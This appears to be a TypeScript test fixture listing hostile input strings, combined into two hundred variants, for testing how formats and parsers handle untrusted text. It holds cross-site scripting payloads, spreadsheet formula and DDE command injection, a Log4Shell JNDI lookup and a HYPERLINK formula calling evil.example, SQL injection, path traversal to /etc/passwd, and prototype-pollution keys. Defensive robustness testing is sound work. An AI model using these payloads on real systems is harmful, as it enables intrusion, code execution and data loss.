// Two hundred texts that do harm where a format takes them for more than text.

const CORES = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '</style></title><iframe srcdoc="<b>">',
  `"'\`><a href="javascript:alert(1)">`,
  'javascript:alert(1)',
  '[click](javascript:alert(1))',
  '![x](data:text/html;base64,PHNjcmlwdD4=)',
  '<javascript:alert(1)>',
  '[a]: https://evil.example',
  '{{ insert: param, x }}',
  '=HYPERLINK("https://evil.example";"x")',
  "+1+cmd|'/c calc'!A0",
  '-2+3',
  '@SUM(1)',
  '\t=1+1',
  '\r\n=1+1',
  '"\r\n"=1+1"',
  '\uff1d1+1',
  '%0A=1',
  '|a|b|\n|-|-|',
  '# heading\n\n* * *',
  '``` fence',
  ']]><x/>',
  '<!--',
  '&lt;script&gt;&#x3c;',
  '\u202eevil\u202c\u2066',
  '\u0000\u0007\u001b[31m\u009b',
  '\ud800lone\udfff',
  '\uffff\ufffe\ufeff',
  '   ',
  '',
  '../../../etc/passwd',
  '${jndi:ldap://evil.example}',
  "'; DROP TABLE report; --",
  '__proto__',
  'constructor',
  '🚨🏴‍☠️ ⁣',
  '~~x~~ ^y^ *z* _w_ "q"',
  'a'.repeat(5_000),
] as const;

const AROUND: readonly ((core: string) => string)[] = [
  (core) => core,
  (core) => ` ${core} `,
  (core) => `plain ${core} plain`,
  (core) => `${core}${core}`,
  (core) => `"${core}\n${core}"`,
];

export const HOSTILE_TEXTS: readonly string[] = CORES.flatMap((core) => AROUND.map((around) => around(core)));

/** Each alone: for what takes long. */
export const BARE: readonly string[] = CORES;
